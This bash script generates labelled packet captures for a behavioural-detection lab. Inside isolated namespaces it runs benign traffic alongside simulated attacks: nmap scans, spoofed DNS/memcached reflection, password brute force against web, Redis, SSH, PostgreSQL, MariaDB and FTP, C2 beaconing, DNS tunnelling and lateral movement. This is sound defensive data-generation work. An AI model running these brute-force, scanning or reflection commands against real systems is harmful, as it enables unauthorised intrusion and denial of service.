#!/usr/bin/env bash
# Records labelled captures for the behavioural detectors: real services and real clients in the
# lab's pod namespaces, benign background traffic in every capture, plus (at most) one kind of attack.
#
#   pcaps/lab/behaviour.sh NAME|all        (root; brings the lab up with lab.sh if it is not)
#
# NAME: benign-learn benign-check fanout reflection scan bruteforce beacon dns-tunnel lateral bruteforce-sql
#
# Each scenario is recorded with tcpdump on node A's bridge (cn-br0 in cn-nodeA, promiscuous,
# default snaplen) into $OUT/NAME.pcap, and labelled in $OUT/NAME.labels.json:
#   {"capture": "NAME.pcap", "attacks": [{"kind","name","src":[..],"dst":[..],"start","end"}, ..]}
# (epoch seconds; each interval is the attack's own wall-clock span plus 1 s either side; benign
# captures have "attacks": []). OUT defaults to pcaps/lab/behaviour (env CN_LAB_OUT overrides it).
# Server and client logs of the last run of each scenario stay in /tmp/cn-lab/behaviour/NAME/.
#
# Services (started fresh for every scenario, before the capture starts):
#   cn-a-redis  redis-server 10.244.1.11:6379 (requirepass), seeded with ~300 keys by the shop
#   cn-a-web    servers/shop.py 10.244.1.10:8080 (HTTP; RESP to Redis; calls api /price)
#   cn-a-api    servers/api.py  10.244.1.13:8081 (HTTP; /status, /price, /recommend -> shop)
#   cn-a-dns    dnsmasq 10.244.1.12:53, zone svc.lab (+ tunnel.lab), --no-resolv, no upstream
#   (reflection only) cn-a-redis memcached 10.244.1.11:11211 with UDP enabled
#   (bruteforce only) cn-a-api  sshd 10.244.1.13:22 with its own config and host key in /tmp
#   (bruteforce-sql only) cn-a-redis PostgreSQL 15 10.244.1.11:5432 (scram-sha-256), cn-a-api MariaDB
#     10.244.1.13:3306 and vsftpd 10.244.1.13:21; data directories and configs under /tmp/cn-lab
# Benign background: servers/benign.py in cn-a-client, cn-b-client (with a 5 s poller) and cn-a-api.
#
# Debian packages: iproute2 ethtool tcpdump python3 curl netcat-openbsd nmap redis-server
#   redis-tools dnsmasq-base dnsutils iputils-ping memcached openssh-server openssh-client sshpass
#   (bruteforce-sql) postgresql-15 postgresql-client-15 mariadb-server mariadb-client vsftpd
set -euo pipefail

HERE=$(cd "$(dirname "$0")" && pwd)
OUT=${CN_LAB_OUT:-$HERE/behaviour}
RUN=/tmp/cn-lab/behaviour
PY=/usr/bin/python3
SRV=$HERE/servers
WEB=10.244.1.10 REDIS=10.244.1.11 DNS=10.244.1.12 API=10.244.1.13 ACLIENT=10.244.1.20
EVIL=10.244.2.5 BCLIENT=10.244.2.10
REDIS_PASS='s3cr3t-Pa55'
PRE=${CN_BEH_PRE:-30}    # seconds of benign traffic before the attack
POST=${CN_BEH_POST:-15}  # and after it

die() { echo "behaviour.sh: $*" >&2; exit 1; }
guard() { local n; for n in "$@"; do [[ $n == cn-* ]] || die "refusing to touch '$n': not a cn- name"; done; }
nsx() { local ns=$1; shift; guard "$ns"; ip netns exec "$ns" "$@"; }
say() { echo "[$(date +%T)] $*"; }

PIDS=()
cleanup() {
  local p
  for p in "${PIDS[@]:-}"; do
    [[ -n $p ]] && kill "$p" 2>/dev/null || true
  done
  for p in "${PIDS[@]:-}"; do
    [[ -n $p ]] && wait "$p" 2>/dev/null || true
  done
  PIDS=()
}
trap cleanup EXIT

LOGDIR=$RUN
bg() { # ns logname cmd...  (starts a process in a pod; killed by cleanup)
  local ns=$1 log=$2; shift 2
  guard "$ns"
  # ip netns exec execs the command, so $! is the process itself
  ip netns exec "$ns" "$@" >"$LOGDIR/$log.log" 2>&1 &
  PIDS+=($!)
}

wait_tcp() { # from_ns addr port
  local i
  for i in $(seq 1 100); do
    nsx "$1" nc -z -w 1 "$2" "$3" 2>/dev/null && return 0
    sleep 0.1
  done
  die "nothing listens on $2:$3"
}

REC=()
record_start() { # node iface file
  local node=$1 dev=$2 file=$3
  rm -f "$file"
  guard "$node" "$dev"
  ip netns exec "$node" tcpdump -i "$dev" -U -Z root -w "$file" >"$LOGDIR/tcpdump.log" 2>&1 &
  REC+=($!)
  PIDS+=($!)
  sleep 1.5
}
record_stop() {
  sleep 0.5
  local p
  for p in "${REC[@]}"; do kill -INT "$p" 2>/dev/null || true; done
  for p in "${REC[@]}"; do wait "$p" 2>/dev/null || true; done
  REC=()
}

# ---- labels ---------------------------------------------------------------------------------
ATTACKS=()
T0=
now() { date +%s.%N; }
attack_begin() { T0=$(now); say "attack begins: $*"; }
attack_end() { # kind name "src src.." "dst dst.."
  local t1 src dst
  t1=$(now)
  src=$(printf '"%s",' $3); dst=$(printf '"%s",' $4)
  ATTACKS+=("$(printf '{"kind": "%s", "name": "%s", "src": [%s], "dst": [%s], "start": %.3f, "end": %.3f}' \
    "$1" "$2" "${src%,}" "${dst%,}" "$(awk -v t="$T0" 'BEGIN{printf "%.3f", t-1}')" "$(awk -v t="$t1" 'BEGIN{printf "%.3f", t+1}')")")
  say "attack ends: $1/$2"
}
write_labels() { # name
  local f=$OUT/$1.labels.json i
  {
    printf '{"capture": "%s.pcap",\n "attacks": [' "$1"
    for i in "${!ATTACKS[@]}"; do
      (( i > 0 )) && printf ','
      printf '\n   %s' "${ATTACKS[$i]}"
    done
    (( ${#ATTACKS[@]} > 0 )) && printf '\n ]}\n' || printf ']}\n'
  } >"$f"
  ATTACKS=()
}

# ---- services -------------------------------------------------------------------------------
dnsmasq_conf() {
  local f=$LOGDIR/dnsmasq.conf i s
  # a 250-character TXT string (printable, deterministic)
  s=$(printf 'v=lab1 k=%s' "$(printf '%0240d' 0 | tr 0 a)")
  {
    echo "no-resolv"; echo "no-hosts"; echo "bind-interfaces"; echo "listen-address=$DNS"
    echo "user=root"; echo "pid-file=$LOGDIR/dnsmasq.pid"
    echo "log-queries=extra"; echo "log-facility=$LOGDIR/dnsmasq.log"
    echo "edns-packet-max=4096"
    echo "local=/svc.lab/"
    echo "host-record=web.svc.lab,$WEB"; echo "host-record=shop.svc.lab,$WEB"
    echo "host-record=redis.svc.lab,$REDIS"; echo "host-record=dns.svc.lab,$DNS"
    echo "host-record=api.svc.lab,$API"
    echo "addn-hosts=$LOGDIR/pool.hosts"
    for i in 1 2 3 4; do
      echo "txt-record=big.svc.lab,\"${s/v=lab1/v=lab1 part=$i.1}\",\"${s/v=lab1/v=lab1 part=$i.2}\",\"${s/v=lab1/v=lab1 part=$i.3}\""
      echo "txt-record=keys.svc.lab,\"${s/v=lab1/v=dkim1 part=$i.1}\",\"${s/v=lab1/v=dkim1 part=$i.2}\",\"${s/v=lab1/v=dkim1 part=$i.3}\""
    done
    echo "local=/tunnel.lab/"; echo "address=/tunnel.lab/10.244.1.99"
  } >"$f"
  for i in $(seq 1 40); do echo "10.244.3.$i pool.svc.lab"; done >"$LOGDIR/pool.hosts"
}

services_up() {
  bg cn-a-redis redis redis-server --bind $REDIS --port 6379 --protected-mode no --save '' --appendonly no \
    --requirepass "$REDIS_PASS"
  wait_tcp cn-a-redis $REDIS 6379
  bg cn-a-api api "$PY" -u "$SRV/api.py" $API 8081 $WEB:8080
  bg cn-a-web shop "$PY" -u "$SRV/shop.py" $WEB 8080 $REDIS:6379 "$REDIS_PASS" $API:8081
  dnsmasq_conf
  bg cn-a-dns dnsmasq dnsmasq --keep-in-foreground --conf-file="$LOGDIR/dnsmasq.conf"
  wait_tcp cn-a-client $WEB 8080
  wait_tcp cn-a-client $API 8081
  sleep 0.5
  nsx cn-a-client dig +short +tries=1 +time=1 @$DNS web.svc.lab A | grep -qx $WEB || die "dnsmasq does not answer web.svc.lab"
}

benign_start() { # seed [duration]
  bg cn-a-client benign-a-client "$PY" -u "$SRV/benign.py" a-client "$1" ${2:-}
  bg cn-b-client benign-b-client "$PY" -u "$SRV/benign.py" b-client "$1" ${2:-}
  bg cn-a-api benign-a-api "$PY" -u "$SRV/benign.py" a-api "$1" ${2:-}
}

# the usual frame: services, benign background, capture, PRE seconds of benign ... attack ... POST
begin() { # name seed
  say "== $1"
  services_up
  benign_start "$2"
  record_start cn-nodeA cn-br0 "$OUT/$1.pcap"
  sleep "$PRE"
}
finish() { # name
  sleep "$POST"
  record_stop
  cleanup
  write_labels "$1"
}

# ---- scenarios --------------------------------------------------------------------------------
sc_benign_learn() {
  say "== benign-learn (${CN_BEH_LEARN:-620} s)"
  services_up
  benign_start 1
  record_start cn-nodeA cn-br0 "$OUT/benign-learn.pcap"
  sleep "${CN_BEH_LEARN:-620}"
  record_stop; cleanup; write_labels benign-learn
}

sc_benign_check() {
  say "== benign-check (${CN_BEH_CHECK:-180} s)"
  services_up
  benign_start 2
  record_start cn-nodeA cn-br0 "$OUT/benign-check.pcap"
  sleep "${CN_BEH_CHECK:-180}"
  record_stop; cleanup; write_labels benign-check
}

sc_fanout() {
  begin fanout 3
  attack_begin "18 x GET /search?q=* from cn-b-evil"
  local i
  for i in $(seq 1 18); do
    nsx cn-b-evil curl -s -o /dev/null -w '%{http_code} %{size_download}\n' -A 'python-requests/2.31.0' \
      "http://$WEB:8080/search?q=*" >>"$LOGDIR/fanout.out"
    sleep 1.6
  done
  attack_end fanout search-wildcard "$EVIL" "$WEB"
  finish fanout
  local n; n=$(grep -c 'q=\* 200 redis_ops=2' "$LOGDIR/shop.log" || true)
  say "shop served $n wildcard searches: $(grep 'q=\*' "$LOGDIR/shop.log" | awk '{print $NF}' | sort | uniq -c | tr '\n' ' ')"
  (( n == 18 )) || die "expected 18 wildcard searches with ~200 redis ops each"
}

sc_reflection() {
  # memcached with UDP on the cache pod, a ~8 KB value to reflect
  bg cn-a-redis memcached memcached -u root -l $REDIS -p 11211 -U 11211 -m 16 -c 64 -v
  wait_tcp cn-a-redis $REDIS 11211
  local blob; blob=$(head -c 6000 /dev/zero | tr '\0' 'm')
  printf 'set catalog:all 0 0 %d\r\n%s\r\nquit\r\n' ${#blob} "$blob" | nsx cn-a-redis nc -N -w 2 $REDIS 11211 | grep -q STORED \
    || die "memcached did not store the value"
  begin reflection 4
  attack_begin "200 spoofed DNS ANY/TXT queries src=$API (victim) from cn-a-client -> dnsmasq"
  nsx cn-a-client "$PY" -u "$SRV/attacks.py" reflect-dns $API $DNS 200 20 big.svc.lab:ANY big.svc.lab:TXT keys.svc.lab:ANY keys.svc.lab:TXT \
    2>>"$LOGDIR/attack.log"
  attack_end reflection dns-any-txt "$API $ACLIENT" "$DNS"
  sleep 10
  attack_begin "150 spoofed memcached UDP gets src=$API (victim) from cn-a-client -> memcached"
  nsx cn-a-client "$PY" -u "$SRV/attacks.py" reflect-memcached $API $REDIS 11211 150 20 catalog:all 2>>"$LOGDIR/attack.log"
  attack_end reflection memcached-udp "$API $ACLIENT" "$REDIS"
  finish reflection
  local q; q=$(grep -c "query\[\(ANY\|TXT\)\] \(big\|keys\).svc.lab from $API" "$LOGDIR/dnsmasq.log" || true)
  say "dnsmasq logged $q spoofed ANY/TXT queries 'from $API'"
  (( q >= 190 )) || die "dnsmasq saw only $q spoofed queries"
}

sc_scan() {
  begin scan 5
  local pods="$WEB $REDIS $DNS $API $ACLIENT" podr=10.244.1.10-13,20
  attack_begin "nmap -sS horizontal"
  nsx cn-b-evil nmap -sS -n -Pn -T4 -p 21,22,23,80,443,3306,5432,8080 $podr >"$LOGDIR/nmap-horizontal.out"
  attack_end scan syn-horizontal "$EVIL" "$pods"
  sleep 5
  attack_begin "nmap -sS 1-1024 of web"
  nsx cn-b-evil nmap -sS -n -Pn -T4 -p 1-1024 $WEB >"$LOGDIR/nmap-vertical.out"
  attack_end scan syn-vertical "$EVIL" "$WEB"
  sleep 5
  attack_begin "nmap -sU top 50 of dns"
  nsx cn-b-evil nmap -sU -n -Pn -T4 --max-retries 1 --top-ports 50 $DNS >"$LOGDIR/nmap-udp.out"
  attack_end scan udp-dns "$EVIL" "$DNS"
  sleep 5
  attack_begin "nmap -sT control-plane ports"
  nsx cn-b-evil nmap -sT -n -Pn -T4 -p 10250,10255,2379,2375,2376 $podr >"$LOGDIR/nmap-connect.out"
  attack_end scan connect-control-plane "$EVIL" "$pods"
  finish scan
  grep -q '8080/tcp *open' "$LOGDIR/nmap-horizontal.out" || die "horizontal sweep did not find 8080 open"
  grep -q '53/udp *open' "$LOGDIR/nmap-udp.out" || die "udp scan did not find 53 open"
}

SSHD_DIR=$RUN/sshd
sshd_up() {
  command -v sshd >/dev/null && command -v sshpass >/dev/null || return 1
  mkdir -p "$SSHD_DIR" /run/sshd
  [[ -f $SSHD_DIR/host_ed25519 ]] || ssh-keygen -q -t ed25519 -N '' -f "$SSHD_DIR/host_ed25519"
  cat >"$SSHD_DIR/sshd_config" <<EOF
Port 22
ListenAddress $API
HostKey $SSHD_DIR/host_ed25519
PidFile $SSHD_DIR/sshd.pid
PasswordAuthentication yes
KbdInteractiveAuthentication no
PubkeyAuthentication no
UsePAM no
PermitRootLogin no
MaxAuthTries 6
MaxStartups 100
LogLevel VERBOSE
EOF
  bg cn-a-api sshd /usr/sbin/sshd -D -e -f "$SSHD_DIR/sshd_config"
  wait_tcp cn-a-api $API 22
}

sc_bruteforce() {
  local ssh=0
  if sshd_up; then ssh=1; else say "sshd/sshpass missing: skipping the SSH interval"; fi
  begin bruteforce 6
  local i pw
  attack_begin "60 wrong POST /login from cn-b-evil"
  for i in $(seq 1 60); do
    pw=$(printf 'Passw0rd%03d' "$i")
    nsx cn-b-evil curl -s -o /dev/null -w '%{http_code}\n' -A 'Mozilla/5.0 (hydra)' \
      --data-urlencode "user=admin" --data-urlencode "password=$pw" "http://$WEB:8080/login" >>"$LOGDIR/http-brute.out"
    sleep 0.25
  done
  attack_end bruteforce http-login "$EVIL" "$WEB"
  sleep 5
  attack_begin "60 wrong Redis AUTH from cn-b-evil"
  for i in $(seq 1 60); do
    nsx cn-b-evil redis-cli --no-auth-warning -h $REDIS -a "redis$i" PING >>"$LOGDIR/redis-brute.out" 2>&1 || true
    sleep 0.2
  done
  attack_end bruteforce redis-auth "$EVIL" "$REDIS"
  if (( ssh )); then
    sleep 5
    attack_begin "30 failed ssh password logins from cn-b-evil"
    for i in $(seq 1 30); do
      nsx cn-b-evil sshpass -p "toor$i" ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
        -o PreferredAuthentications=password -o PubkeyAuthentication=no -o NumberOfPasswordPrompts=1 \
        -o ConnectTimeout=5 "admin@$API" true >>"$LOGDIR/ssh-brute.out" 2>&1 || true
      sleep 0.3
    done
    attack_end bruteforce ssh-password "$EVIL" "$API"
  fi
  finish bruteforce
  local h r s
  h=$(grep -c "^401$" "$LOGDIR/http-brute.out" || true)
  r=$(grep -c WRONGPASS "$LOGDIR/redis-brute.out" || true)
  s=$(grep -c "Failed password" "$LOGDIR/sshd.log" 2>/dev/null || true)
  say "http 401s: $h, redis WRONGPASS: $r, sshd 'Failed password': $s"
  (( h == 60 && r == 60 )) || die "bruteforce attempts did not all fail as expected"
  (( ssh == 0 || s >= 30 )) || die "sshd logged only $s failed passwords"
}

sc_beacon() {
  bg cn-b-evil c2 "$PY" -u "$SRV/attacks.py" beacon-server $EVIL 8443
  wait_tcp cn-b-evil $EVIL 8443
  begin beacon 7
  attack_begin "40 beacons cn-a-web -> cn-b-evil:8443 every 2 s +-15 %"
  nsx cn-a-web "$PY" -u "$SRV/attacks.py" beacon $EVIL 8443 40 2.0 0.15 2>>"$LOGDIR/attack.log"
  attack_end beacon c2-8443 "$WEB" "$EVIL"
  finish beacon
  local n; n=$(grep -c "beacon check-in .* from $WEB bytes 120" "$LOGDIR/c2.log" || true)
  say "c2 saw $n check-ins"
  (( n == 40 )) || die "expected 40 check-ins"
}

sc_dns_tunnel() {
  begin dns-tunnel 8
  attack_begin "300 tunnel queries cn-a-client -> dnsmasq"
  nsx cn-a-client "$PY" -u "$SRV/attacks.py" tunnel $DNS 300 75 x.tunnel.lab 2>>"$LOGDIR/attack.log"
  attack_end dns-tunnel exfil-x.tunnel.lab "$ACLIENT" "$DNS"
  finish dns-tunnel
  local n; n=$(grep -c 'query\[[A-Z]*\] [^ ]*\.x\.tunnel\.lab from' "$LOGDIR/dnsmasq.log" || true)
  say "dnsmasq logged $n tunnel queries"
  (( n >= 290 )) || die "dnsmasq saw only $n tunnel queries"
}

sc_lateral() {
  bg cn-a-api sink2222 "$PY" -u "$SRV/attacks.py" sink $API 2222
  bg cn-b-evil sink9000 "$PY" -u "$SRV/attacks.py" sink $EVIL 9000
  wait_tcp cn-a-api $API 2222
  wait_tcp cn-b-evil $EVIL 9000
  begin lateral 9
  attack_begin "cn-a-web -> cn-a-api:2222"
  nsx cn-a-web "$PY" -u "$SRV/attacks.py" talk $API 2222 3 2>>"$LOGDIR/attack.log"
  attack_end lateral web-to-api-2222 "$WEB" "$API"
  sleep 8
  attack_begin "cn-a-client -> cn-a-redis:6379 (AUTH, PING, INFO)"
  printf 'AUTH %s\r\nPING\r\nINFO\r\nQUIT\r\n' "$REDIS_PASS" | nsx cn-a-client nc -N -w 3 $REDIS 6379 >"$LOGDIR/redis-direct.out" || true
  attack_end lateral client-to-redis "$ACLIENT" "$REDIS"
  sleep 8
  attack_begin "cn-a-web -> cn-b-evil:9000"
  nsx cn-a-web "$PY" -u "$SRV/attacks.py" talk $EVIL 9000 3 2>>"$LOGDIR/attack.log"
  attack_end lateral web-egress-9000 "$WEB" "$EVIL"
  finish lateral
  grep -q '+PONG' "$LOGDIR/redis-direct.out" && grep -q redis_version "$LOGDIR/redis-direct.out" || die "redis PING/INFO failed"
  [[ $(grep -c 'talk.*received' "$LOGDIR/attack.log") == 2 ]] || die "lateral talks failed"
}

# ---- SQL and FTP logins ------------------------------------------------------------------------
PG_BIN=/usr/lib/postgresql/15/bin
PG_PASS='pg-Sh0p-2026' MY_PASS='my-Sh0p-2026' FTP_USER=cn-ftp FTP_PASS='ftp-Sh0p-2026'

pg_up() { # cn-a-redis: a fresh cluster, scram-sha-256 for the lab's subnet, role and database shop
  local dir=$LOGDIR/pg
  rm -rf "$dir"; mkdir -p "$dir/sock"
  echo "$PG_PASS" >"$dir/pw"; chown -R postgres: "$dir"
  runuser -u postgres -- "$PG_BIN/initdb" -D "$dir/data" -U postgres --pwfile="$dir/pw" \
    --auth-local=trust --auth-host=scram-sha-256 >"$LOGDIR/initdb.log" 2>&1
  echo "host all all 10.244.0.0/16 scram-sha-256" >>"$dir/data/pg_hba.conf"
  bg cn-a-redis postgres runuser -u postgres -- "$PG_BIN/postgres" -D "$dir/data" -c listen_addresses=$REDIS \
    -c port=5432 -c unix_socket_directories="$dir/sock" -c log_connections=on -c ssl=off
  wait_tcp cn-a-redis $REDIS 5432
  runuser -u postgres -- psql -q -h "$dir/sock" -U postgres -d postgres \
    -c "CREATE ROLE shop LOGIN PASSWORD '$PG_PASS'" -c "CREATE DATABASE shop OWNER shop" >>"$LOGDIR/initdb.log" 2>&1
  runuser -u postgres -- psql -q -h "$dir/sock" -U shop -d shop \
    -c "CREATE TABLE items (id int PRIMARY KEY, name text)" \
    -c "INSERT INTO items SELECT g, 'item ' || g FROM generate_series(1, 50) g" >>"$LOGDIR/initdb.log" 2>&1
}

mariadb_up() { # cn-a-api: a fresh datadir, no name resolution, user and database shop
  local dir=$LOGDIR/my
  rm -rf "$dir"; mkdir -p "$dir"; chown mysql: "$dir"
  mariadb-install-db --no-defaults --user=mysql --datadir="$dir/data" --auth-root-authentication-method=socket \
    --skip-test-db >"$LOGDIR/mariadb-install.log" 2>&1
  bg cn-a-api mariadb mariadbd --no-defaults --user=mysql --datadir="$dir/data" --socket="$dir/sock" \
    --pid-file="$dir/pid" --bind-address=$API --port=3306 --skip-name-resolve --skip-log-bin --log-warnings=2
  wait_tcp cn-a-api $API 3306
  mariadb --no-defaults -S "$dir/sock" -u root -e "CREATE DATABASE shop; CREATE USER 'shop'@'%' IDENTIFIED BY '$MY_PASS';
    GRANT ALL ON shop.* TO 'shop'@'%'; CREATE TABLE shop.items (id INT PRIMARY KEY, name TEXT);
    USE shop; INSERT INTO items SELECT seq, CONCAT('item ', seq) FROM seq_1_to_50;" >>"$LOGDIR/mariadb-install.log" 2>&1
}

vsftpd_up() { # cn-a-api: vsftpd, local users through PAM, one lab user (created here, removed after)
  local dir=$LOGDIR/ftp
  rm -rf "$dir"; mkdir -p "$dir/home"
  id "$FTP_USER" >/dev/null 2>&1 || useradd -M -d "$dir/home" -s /bin/sh "$FTP_USER"
  usermod -d "$dir/home" "$FTP_USER" 2>/dev/null || true; echo "$FTP_USER:$FTP_PASS" | chpasswd
  echo "hello from the lab" >"$dir/home/readme.txt"; chown -R "$FTP_USER": "$dir/home"
  cat >"$dir/vsftpd.conf" <<EOF
listen=YES
listen_ipv6=NO
listen_address=$API
listen_port=21
anonymous_enable=NO
local_enable=YES
write_enable=NO
pam_service_name=vsftpd
seccomp_sandbox=NO
pasv_min_port=30000
pasv_max_port=30100
log_ftp_protocol=YES
xferlog_enable=YES
xferlog_std_format=NO
vsftpd_log_file=$LOGDIR/vsftpd.log
EOF
  bg cn-a-api vsftpd /usr/sbin/vsftpd "$dir/vsftpd.conf"
  wait_tcp cn-a-api $API 21
}

# benign: the shop logs in correctly now and then (2-21 s apart, PostgreSQL, MariaDB or FTP at random,
# so no edge is periodic enough to look like a beacon) and asks a little
sql_benign() {
  local i=0
  while :; do
    case $((RANDOM % 3)) in
      0) PGPASSWORD=$PG_PASS PGCONNECT_TIMEOUT=5 psql -q -h $REDIS -U shop -d shop -c "SELECT name FROM items WHERE id <= $((RANDOM % 20 + 1))" ;;
      1) mariadb --no-defaults --connect-timeout=5 -h $API -u shop -p"$MY_PASS" shop -e "SELECT name FROM items WHERE id <= $((RANDOM % 20 + 1))" ;;
      2) curl -s -I --max-time 5 "ftp://$FTP_USER:$FTP_PASS@$API/readme.txt" ;; # SIZE/MDTM: no data connection
    esac
    i=$((i + 1))
    sleep $((2 + RANDOM % 20)).$((RANDOM % 10))
  done
}

sc_bruteforce_sql() {
  pg_up
  mariadb_up
  vsftpd_up
  export -f sql_benign; export PG_PASS MY_PASS FTP_USER FTP_PASS REDIS API
  bg cn-a-web sql-benign bash -c sql_benign
  begin bruteforce-sql 10
  local i
  attack_begin "30 wrong PostgreSQL passwords (psql) from cn-b-evil"
  for i in $(seq 1 30); do
    nsx cn-b-evil env PGPASSWORD="Summer2026!$i" PGCONNECT_TIMEOUT=5 psql -h $REDIS -U postgres -d postgres -c 'SELECT 1' \
      >>"$LOGDIR/pg-brute.out" 2>&1 || true
    sleep 0.3
  done
  attack_end bruteforce pgsql-password "$EVIL" "$REDIS"
  sleep 5
  attack_begin "30 wrong MariaDB passwords (mariadb client) from cn-b-evil"
  for i in $(seq 1 30); do
    nsx cn-b-evil mariadb --no-defaults --connect-timeout=5 -h $API -u root -p"toor$i" -e 'SELECT 1' \
      >>"$LOGDIR/mysql-brute.out" 2>&1 || true
    sleep 0.3
  done
  attack_end bruteforce mysql-password "$EVIL" "$API"
  sleep 5
  attack_begin "30 wrong FTP passwords (curl) from cn-b-evil"
  for i in $(seq 1 30); do
    nsx cn-b-evil curl -s --max-time 8 -o /dev/null -w '%{response_code}\n' "ftp://admin:admin$i@$API/" \
      >>"$LOGDIR/ftp-brute.out" 2>&1 || true
    sleep 0.3
  done
  attack_end bruteforce ftp-password "$EVIL" "$API"
  finish bruteforce-sql
  userdel "$FTP_USER" 2>/dev/null || true
  local p m f
  p=$(grep -c 'password authentication failed' "$LOGDIR/pg-brute.out" || true)
  m=$(grep -c 'ERROR 1045' "$LOGDIR/mysql-brute.out" || true)
  f=$(grep -c '^530$' "$LOGDIR/ftp-brute.out" || true)
  say "pgsql 28P01: $p, mariadb 1045: $m, ftp 530: $f; benign: $(grep -c . "$LOGDIR/sql-benign.log" || true) output lines"
  (( p == 30 && m == 30 && f == 30 )) || die "bruteforce-sql attempts did not all fail as expected"
}

ALL=(benign-learn benign-check fanout reflection scan bruteforce beacon dns-tunnel lateral bruteforce-sql)

run_one() {
  local name=$1 fn
  fn="sc_${name//-/_}"
  declare -F "$fn" >/dev/null || die "unknown scenario '$name' (one of: ${ALL[*]} all)"
  LOGDIR=$RUN/$name
  rm -rf "$LOGDIR"; mkdir -p "$LOGDIR"
  "$fn"
  cleanup
  printf '%-24s %9d bytes %7s packets\n' "$name.pcap" "$(stat -c %s "$OUT/$name.pcap")" \
    "$(tcpdump -r "$OUT/$name.pcap" 2>/dev/null | wc -l)"
}

[[ $(id -u) == 0 ]] || die "must run as root (network namespaces)"
[[ $# == 1 ]] || die "usage: $0 NAME|all   (NAME: ${ALL[*]})"
for c in tcpdump curl nc nmap redis-server redis-cli dnsmasq dig ethtool "$PY"; do
  command -v "$c" >/dev/null 2>&1 || die "missing '$c': apt-get install -y iproute2 ethtool tcpdump python3 curl netcat-openbsd nmap redis-server redis-tools dnsmasq-base dnsutils iputils-ping memcached openssh-server sshpass"
done
mkdir -p "$RUN" "$OUT"
"$HERE/lab.sh" status >/dev/null 2>&1 || "$HERE/lab.sh" up
if [[ $1 == all ]]; then
  for s in "${ALL[@]}"; do run_one "$s"; done
else
  run_one "$1"
fi
